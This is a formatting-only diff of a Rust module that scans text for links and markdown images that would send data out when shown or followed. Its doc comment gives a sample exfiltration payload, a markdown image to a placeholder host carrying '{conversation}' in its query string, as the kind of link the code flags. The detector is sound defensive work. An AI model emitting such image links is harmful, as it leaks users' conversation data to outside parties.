@@ -1,6 +1,7 @@
 //! Links and images that would carry data away when they are shown or followed.
 //!
-//! Good: `https://jira.example.com/browse/PAY-12?focusedId=3`. Bad: `![](https://x.example/p?d={conversation})`.
+//! Good: `https://jira.example.com/browse/PAY-12?focusedId=3`. Bad:
+//! `![](https://x.example/p?d={conversation})`.
 
 use alloc::vec::Vec;
 
@@ -28,8 +29,13 @@ pub(super) fn scan(chars: &[Ch]) -> Vec<Hit> {
         let len = plain.get(found.start..found.end).map_or(0, |t| t.chars().count());
         let image = is_markdown_image(chars, index);
         // A hole ends the address early: look at what stands right behind it too.
-        let tail: alloc::string::String =
-            chars.iter().skip(index).take(len + 40).map(|ch| ch.c).take_while(|c| !c.is_whitespace() && !matches!(c, ')' | '|' | '"')).collect();
+        let tail: alloc::string::String = chars
+            .iter()
+            .skip(index)
+            .take(len + 40)
+            .map(|ch| ch.c)
+            .take_while(|c| !c.is_whitespace() && !matches!(c, ')' | '|' | '"'))
+            .collect();
         let hole = links::parse(&tail).is_some_and(|link| link.has_hole());
         let span = cover(chars.get(index..index + len).unwrap_or(&[]));
         rate(&found.link, image, hole, span, &mut out);
